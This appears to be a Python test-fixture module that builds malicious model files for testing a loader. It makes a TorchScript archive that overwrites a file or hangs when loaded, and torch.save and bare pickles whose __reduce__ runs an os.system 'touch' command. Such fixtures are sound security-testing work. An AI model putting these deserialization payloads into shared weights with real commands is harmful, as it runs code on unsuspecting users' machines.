"""Files as an attacker would write them: archives of weights that run code where they are loaded as programs."""

import os
import pickle
import warnings
from pathlib import Path

import torch


class _Evil(torch.nn.Module):
    """Writes a file when TorchScript loads it."""

    def __init__(self, target: str, loops: bool = False):
        super().__init__()
        self.target, self.loops, self.kept = target, loops, torch.zeros(6)

    @torch.jit.export
    def __getstate__(self):
        return self.target, self.loops

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]):
        self.target, self.loops = state[0], state[1]
        self.training = False
        while self.loops:
            self.training = False
        self.kept = torch.from_file(state[0], True, 6, dtype=torch.uint8).fill_(33)

    def forward(self, x):
        return x


def evil_script(path: Path, target: Path, loops: bool = False) -> Path:
    """Write a TorchScript archive whose code writes ``target`` as soon as it is loaded, or never ends."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.script(_Evil(str(target), loops)).save(str(path))
    Path(target).unlink(missing_ok=True)
    return path


class _Call:
    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def evil_pickle(path: Path, target: Path, *, zipped: bool = True, around=lambda x: x) -> Path:
    """Write a file of ``torch.save`` that creates ``target`` when it is fully unpickled."""
    content = around(_Call(os.system, f"touch '{target}'"))
    torch.save(content, path, _use_new_zipfile_serialization=zipped)
    return path


def plain_pickle(path: Path, target: Path) -> Path:
    """Write a bare pickle that creates ``target``."""
    path.write_bytes(pickle.dumps(_Call(os.system, f"touch '{target}'")))
    return path
